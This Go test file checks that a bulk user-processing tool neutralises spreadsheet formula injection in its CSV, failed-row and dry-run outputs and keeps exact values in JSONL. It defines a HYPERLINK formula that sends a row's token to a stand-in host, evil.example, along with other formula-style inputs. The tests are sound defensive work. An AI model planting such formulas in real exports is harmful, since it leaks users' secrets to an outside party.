package bulk

import (
	"bytes"
	"encoding/csv"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

const evilFormula = `=HYPERLINK("http://evil.example/?"&F2,"open")`

// TestCSVOutputNeutralisesFormulas: a display name that a spreadsheet
// would evaluate ends up in a cell that starts with a quote, not a formula
// that sends the token in the same row away.
func TestCSVOutputNeutralisesFormulas(t *testing.T) {
	s := newFakeServer(1)
	u := s.users[1001]
	u.DisplayName = evilFormula
	s.users[1001] = u
	tmpl, _ := ParseNameTemplate("{{.DisplayName}}")
	out := filepath.Join(t.TempDir(), "out.csv")
	if _, err := runEngine(t, s, usersCSV(1), out, func(o *Options) { o.Template = tmpl }); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(mustRead(t, out))).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatal(rows, err)
	}
	for _, c := range rows[1] {
		if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
			t.Fatalf("cell %q is a formula: %q", c, rows[1])
		}
	}
	if rows[1][3] != "'"+evilFormula {
		t.Fatalf("name cell %q", rows[1][3])
	}
}

func TestJSONLOutputKeepsExactValues(t *testing.T) {
	s := newFakeServer(1)
	u := s.users[1001]
	u.DisplayName = evilFormula
	s.users[1001] = u
	tmpl, _ := ParseNameTemplate("{{.DisplayName}}")
	out := filepath.Join(t.TempDir(), "out.jsonl")
	if _, err := runEngine(t, s, usersCSV(1), out, func(o *Options) { o.Template = tmpl }); err != nil {
		t.Fatal(err)
	}
	if recs := readRecords(t, out); len(recs) != 1 || recs[0].Name != evilFormula {
		t.Fatalf("%+v", recs)
	}
}

// TestCSVOutputResumeKnowsFormulaUsers: a user whose name begins with =
// is recognised as done when the CSV output is read back.
func TestCSVOutputResumeKnowsFormulaUsers(t *testing.T) {
	s := newFakeServer(2)
	u := s.users[1001]
	u.UserName = "=cmd"
	s.users[1001] = u
	out := filepath.Join(t.TempDir(), "out.csv")
	input := "user\n=cmd\n"
	if _, err := runEngine(t, s, input, out, func(o *Options) { o.Name = "n" }); err != nil {
		t.Fatal(err)
	}
	sum, err := runEngine(t, s, input+"1002\n", out, func(o *Options) { o.Name = "n"; o.Resume = true })
	if err != nil || sum.Skipped != 1 || sum.Minted != 1 {
		t.Fatalf("%+v %v", sum, err)
	}
}

// TestFailedFileNeutralisesFormulasAndRoundTrips: rows with formulas fail,
// land in the failed file as inert cells, and read back exactly.
func TestFailedFileNeutralisesFormulasAndRoundTrips(t *testing.T) {
	s := newFakeServer(1)
	out := filepath.Join(t.TempDir(), "out.jsonl")
	users := []string{evilFormula, "'=x", "@SUM(1)", "-1", "''x", "'"}
	var in strings.Builder
	in.WriteString("user,note\n")
	w := csv.NewWriter(&in)
	for _, u := range users {
		_ = w.Write([]string{u, "+" + u})
	}
	w.Flush()
	sum, err := runEngine(t, s, in.String(), out, nil)
	if err != nil || sum.Failed != len(users) {
		t.Fatalf("%+v %v", sum, err)
	}
	raw := mustRead(t, FailedPath(out))
	rows, _ := csv.NewReader(bytes.NewReader(raw)).ReadAll()
	for _, r := range rows {
		for _, c := range r {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Fatalf("failed file cell %q is a formula", c)
			}
		}
	}
	input, err := NewInput(bytes.NewReader(raw), "failed")
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]bool{}
	for _, u := range users {
		want[u] = true
	}
	for {
		row, err := input.Next()
		if errors.Is(err, io.EOF) {
			break
		}
		if !want[row.User] || row.Fields[1] != "+"+row.User {
			t.Fatalf("a row read back as %q %q", row.User, row.Fields[1])
		}
		delete(want, row.User)
	}
	if len(want) != 0 {
		t.Fatalf("not read back: %v", want)
	}
	// Re-run: the same users fail again, and the new failed file is the same.
	_ = os.Remove(out)
	_ = os.Remove(JournalPath(out))
	sum, err = runEngine(t, s, string(raw), out, nil)
	if err != nil || sum.Failed != len(users) {
		t.Fatalf("%+v %v", sum, err)
	}
	again, _ := csv.NewReader(bytes.NewReader(mustRead(t, FailedPath(out)))).ReadAll()
	if len(again) != len(rows) || strings.Join(again[0], ",") != strings.Join(rows[0], ",") {
		t.Fatalf("the failed file changed on a re-run: %q vs %q", again, rows)
	}
	cells := map[string]bool{}
	for _, r := range rows[1:] {
		cells[r[0]+"|"+r[1]] = true
	}
	for _, r := range again[1:] {
		if !cells[r[0]+"|"+r[1]] {
			t.Fatalf("re-run row %q was not in the first failed file", r)
		}
	}
}

func TestDryRunPlanNeutralisesFormulas(t *testing.T) {
	s := newFakeServer(1)
	var plan bytes.Buffer
	_, err := runEngine(t, s, "user\n"+`"`+strings.ReplaceAll(evilFormula, `"`, `""`)+`"`+"\n", "", func(o *Options) { o.DryRun = true; o.Plan = &plan })
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(plan.String(), "\n=") || !strings.Contains(plan.String(), "'=HYPERLINK") {
		t.Fatalf("plan:\n%s", plan.String())
	}
}
